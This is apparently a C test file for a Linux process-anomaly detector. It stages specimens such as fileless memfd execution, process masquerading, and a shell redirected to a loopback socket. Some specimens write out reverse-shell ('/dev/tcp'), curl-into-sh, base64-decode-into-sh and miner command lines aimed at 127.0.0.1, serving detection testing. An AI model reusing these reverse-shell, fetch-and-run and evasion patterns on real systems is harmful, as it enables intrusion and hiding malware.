/* SPDX-License-Identifier: MIT */
#include "tests/specimens/specimen.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

enum { CONNECTIONS = 30 };

extern char **environ;

/* --- files and programs --- */

static void copy_self_to(int target)
{
    int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    struct stat status;

    if (self < 0 || fstat(self, &status) != 0 ||
        sendfile(target, self, NULL, (size_t)status.st_size) != status.st_size)
        specimen_fail("copy of the program");
    close(self);
}

static void make_copy(struct stage *stage, const char *directory, const char *name)
{
    snprintf(stage->file, sizeof stage->file, "%s/%s", directory, name);
    int file = open(stage->file, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0700);
    if (file < 0)
        specimen_skip(stage->file);
    copy_self_to(file);
    close(file);
}

static void run_waiting(const char *path)
{
    execl(path, path, "wait", (char *)NULL);
    specimen_skip(path); /* a noexec file system */
}

static void enter_copy(struct stage *stage)
{
    run_waiting(stage->file);
}

/* --- the states --- */

static void enter_nothing(struct stage *stage)
{
    (void)stage;
}

static void prepare_deleted(struct stage *stage)
{
    make_copy(stage, stage->directory, "unlinked");
}

static void finish_deleted(struct stage *stage)
{
    unlink(stage->file);
    stage_expect(stage, "deleted_exe", "%s", "/unlinked");
    stage->file[0] = '\0';
}

static void enter_memfd(struct stage *stage)
{
    int file = memfd_create("payload", MFD_CLOEXEC);

    if (file < 0)
        specimen_skip("memfd_create");
    copy_self_to(file);
    stage_expect(stage, "memfd_exe", "/memfd:payload");
    fexecve(file, (char *[]){"payload", "wait", NULL}, environ);
    specimen_skip("fexecve");
}

static void prepare_shm(struct stage *stage)
{
    char name[64];

    snprintf(name, sizeof name, "specimen-%d", (int)getpid());
    make_copy(stage, "/dev/shm", name); /* expected by its place */
}

static void prepare_writable(struct stage *stage)
{
    make_copy(stage, stage->directory, "writable");
    if (chmod(stage->file, 0777) != 0)
        specimen_fail("chmod");
    stage_expect(stage, "world_writable_exe", "/writable");
}

static void enter_wx(struct stage *stage)
{
    size_t size = (size_t)sysconf(_SC_PAGESIZE);
    void *memory = mmap(NULL, size, PROT_READ | PROT_WRITE | PROT_EXEC,
                        MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

    if (memory == MAP_FAILED)
        specimen_skip("mmap of writable and executable memory");
    stage_expect(stage, "wx_mem", "rwx");
}

static void enter_preload(struct stage *stage)
{
    char self[PATH_MAX] = "";

    if (readlink("/proc/self/exe", self, sizeof self - 1) < 0)
        specimen_fail("/proc/self/exe");
    setenv("LD_PRELOAD", "libm.so.6", 1); /* of the C library: always there */
    stage_expect(stage, "ld_preload", "libm.so.6");
    run_waiting(self);
}

static void finish_traced(struct stage *stage)
{
    if (ptrace(PTRACE_SEIZE, stage->child, 0, 0) != 0)
        specimen_skip("ptrace");
    stage_expect(stage, "ptraced", "%d", (int)getpid());
}

/* sh on a pipe that stays open: it waits for its first command's input. */
static void run_shell(const char *command)
{
    int ends[2];

    if (pipe(ends) != 0 || dup2(ends[0], STDIN_FILENO) < 0)
        specimen_fail("pipe");
    execl("/bin/sh", "sh", "-c", command, (char *)NULL);
    specimen_fail("/bin/sh");
}

static void enter_served_shell(struct stage *stage)
{
    (void)stage;
    run_shell("read line; echo $line");
}

static void prepare_nginx(struct stage *stage)
{
    make_copy(stage, stage->directory, "nginx");
    stage_expect(stage, "unusual_parent", "nginx");
}

static void enter_nginx(struct stage *stage)
{
    char number[16];

    fcntl(stage->ready, F_SETFD, 0);
    snprintf(number, sizeof number, "%d", stage->ready);
    execl(stage->file, stage->file, "serve", number, (char *)NULL);
    specimen_skip(stage->file);
}

void specimen_serve(struct stage *stage, int report)
{
    pid_t shell = specimen_start(stage, enter_served_shell);

    if (write(report, &shell, sizeof shell) != sizeof shell)
        specimen_fail("report");
    close(report);
    for (;;)
        pause();
}

static void enter_obfuscated(struct stage *stage)
{
    stage_expect(stage, "obfuscated_cmdline", "base64 -d");
    stage_expect(stage, "decode_exec", "base64 -d");
    run_shell("read line; echo ZWNobyBoYXJtbGVzcyBlbm91Z2g= | base64 -d | sh");
}

static void enter_evaluating(struct stage *stage)
{
    int ends[2];

    if (pipe(ends) != 0 || dup2(ends[0], STDIN_FILENO) < 0)
        specimen_fail("pipe");
    stage_expect(stage, "code_exec_cmdline", "eval");
    execlp("perl", "perl", "-e", "eval(<STDIN>)", (char *)NULL);
    specimen_skip("perl");
}

static void enter_renamed(struct stage *stage)
{
    stage_expect(stage, "name_argv_mismatch", "/usr/sbin/sshd");
    execl("/proc/self/exe", "/usr/sbin/sshd", "wait", (char *)NULL);
    specimen_fail("exec");
}

static void prepare_hidden(struct stage *stage)
{
    make_copy(stage, stage->directory, ".hidden");
    stage_expect(stage, "hidden_exe", "/.hidden");
}

/* The arguments lie in one piece, and the environment follows them. */
static void enter_wiped(struct stage *stage)
{
    for (char *next = program_invocation_name; next < environ[0]; next++)
        *next = '\0';
    stage_expect(stage, "empty_cmdline", "%s", "");
}

static void prepare_short(struct stage *stage)
{
    make_copy(stage, stage->directory, "x");
    stage_expect(stage, "short_cmdline", "%s", "");
}

static void enter_short(struct stage *stage)
{
    execl(stage->file, "x", (char *)NULL);
    specimen_skip(stage->file);
}

static void enter_busy(struct stage *stage)
{
    stage_expect(stage, "high_cpu", "%%");
    close(stage->ready);
    for (;;)
        ;
}

/* --- connections: to ourselves, on loopback --- */

static struct sockaddr_in loopback(uint16_t port)
{
    return (struct sockaddr_in){
        .sin_family = AF_INET,
        .sin_port = htons(port),
        .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
    };
}

static int listen_on(uint16_t port, uint16_t *ret_port)
{
    struct sockaddr_in address = loopback(port);
    socklen_t length = sizeof address;
    int one = 1;
    int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    if (listener < 0)
        specimen_skip("TCP");
    /* Else a connection of the last run would keep the port for a minute. */
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 ||
        listen(listener, CONNECTIONS) != 0 ||
        getsockname(listener, (struct sockaddr *)&address, &length) != 0) {
        close(listener);
        return -1;
    }
    *ret_port = ntohs(address.sin_port);
    return listener;
}

static int connect_to(uint16_t port, int flags)
{
    struct sockaddr_in address = loopback(port);
    int connection = socket(AF_INET, SOCK_STREAM | flags, 0);

    if (connection < 0 || connect(connection, (struct sockaddr *)&address, sizeof address) != 0)
        specimen_fail("connect");
    return connection;
}

/* The first of the ports that are watched by default which nobody has. */
static void prepare_watched(struct stage *stage)
{
    static const uint16_t watched[] = {4444, 3333, 5555, 6666, 7777, 8888};

    stage->listener = -1;
    for (size_t i = 0; stage->listener < 0 && i < sizeof watched / sizeof watched[0]; i++)
        stage->listener = listen_on(watched[i], &stage->port);
    if (stage->listener < 0)
        specimen_skip("every watched port is taken");
}

static void enter_socket_shell(struct stage *stage)
{
    int connection = connect_to(stage->port, 0);

    for (int fd = STDIN_FILENO; fd <= STDERR_FILENO; fd++)
        if (dup2(connection, fd) < 0)
            specimen_fail("dup2");
    if (connection > STDERR_FILENO)
        close(connection);
    stage_expect(stage, "watched_port", "127.0.0.1:%u", stage->port);
    stage_expect(stage, "no_tty", "%s", "");
    stage_expect(stage, "revshell_stdio", "127.0.0.1:%u", stage->port);
    execl("/bin/sh", "sh", (char *)NULL);
    specimen_fail("/bin/sh");
}

static void enter_holding_shell(struct stage *stage)
{
    connect_to(stage->port, 0);
    close(stage->listener);
    stage_expect(stage, "shell_conn", "127.0.0.1:%u", stage->port);
    run_shell("read line; echo $line");
}

static void enter_listening_shell(struct stage *stage)
{
    uint16_t port;
    int listener = listen_on(0, &port);

    if (listener < 0 || fcntl(listener, F_SETFD, 0) != 0)
        specimen_skip("no port to listen on");
    stage_expect(stage, "listen_shell", "127.0.0.1:%u", port);
    run_shell("read line; echo $line");
}

static void enter_wiring(struct stage *stage)
{
    stage_expect(stage, "revshell_cmdline", "/dev/tcp/");
    run_shell("read line; exit; sh -i >& /dev/tcp/127.0.0.1/9 0>&1");
}

static void enter_fetching(struct stage *stage)
{
    stage_expect(stage, "pipe_exec", "curl into a shell");
    run_shell("read line; exit; curl -s http://127.0.0.1:9/ | sh");
}

static void enter_mining(struct stage *stage)
{
    char self[PATH_MAX] = "";

    if (readlink("/proc/self/exe", self, sizeof self - 1) < 0)
        specimen_fail("/proc/self/exe");
    stage_expect(stage, "miner_cmdline", "stratum+tcp://");
    execl(self, self, "wait", "stratum+tcp://127.0.0.1:9", (char *)NULL);
    specimen_fail(self);
}

static void prepare_crowd(struct stage *stage)
{
    stage->listener = listen_on(0, &stage->port);
    if (stage->listener < 0)
        specimen_skip("no port to listen on");
}

static void enter_crowd(struct stage *stage)
{
    close(stage->listener);
    for (int i = 0; i < CONNECTIONS; i++)
        connect_to(stage->port, SOCK_CLOEXEC);
    stage_expect(stage, "many_conns", "%d", CONNECTIONS);
}

const struct specimen specimens[] = {
    {"plain",       "nothing: must stay clean",               NULL,             enter_nothing,         NULL          },
    {"deleted",     "its executable was deleted",             prepare_deleted,  enter_copy,            finish_deleted},
    {"memfd",       "runs from memory",                       NULL,             enter_memfd,           NULL          },
    {"shm",         "runs from /dev/shm",                     prepare_shm,      enter_copy,            NULL          },
    {"writable",    "anybody can write its executable",       prepare_writable, enter_copy,            NULL          },
    {"wx",          "memory that is writable and executable", NULL,             enter_wx,              NULL          },
    {"preload",     "LD_PRELOAD is set",                      NULL,             enter_preload,         NULL          },
    {"traced",      "its parent traces it",                   NULL,             enter_nothing,         finish_traced },
    {"nginx",       "a shell under nginx",                    prepare_nginx,    enter_nginx,           NULL          },
    {"obfuscated",  "decodes and runs its command line",      NULL,             enter_obfuscated,      NULL          },
    {"evaluating",  "evaluates code",                         NULL,             enter_evaluating,      NULL          },
    {"renamed",     "says it is another program",             NULL,             enter_renamed,         NULL          },
    {"wiped",       "wiped its command line",                 NULL,             enter_wiped,           NULL          },
    {"hidden",      "its executable is a dot file",           prepare_hidden,   enter_copy,            NULL          },
    {"loaded",      "the dynamic loader runs it",             NULL,             specimen_loaded,       NULL          },
    {"descriptor",  "was started through a descriptor",       NULL,             specimen_descriptor,   NULL          },
    {"script",      "its script is a memfd",                  NULL,             specimen_memfd_script, NULL          },
    {"short",       "a name of one letter",                   prepare_short,    enter_short,           NULL          },
    {"busy",        "uses a whole CPU",                       NULL,             enter_busy,            NULL          },
    {"shell",       "a shell on a socket to a watched port",  prepare_watched,  enter_socket_shell,
     NULL                                                                                                            },
    {"holding",     "a shell with a connection",              prepare_crowd,    enter_holding_shell,   NULL          },
    {"listening",   "a shell that listens",                   NULL,             enter_listening_shell, NULL          },
    {"wiring",      "wires a shell to the network",           NULL,             enter_wiring,          NULL          },
    {"fetching",    "runs what it downloads",                 NULL,             enter_fetching,        NULL          },
    {"mining",      "a miner's command line",                 NULL,             enter_mining,          NULL          },
    {"connections", "many outbound connections",              prepare_crowd,    enter_crowd,           NULL          },
};
const size_t specimen_count = sizeof specimens / sizeof specimens[0];
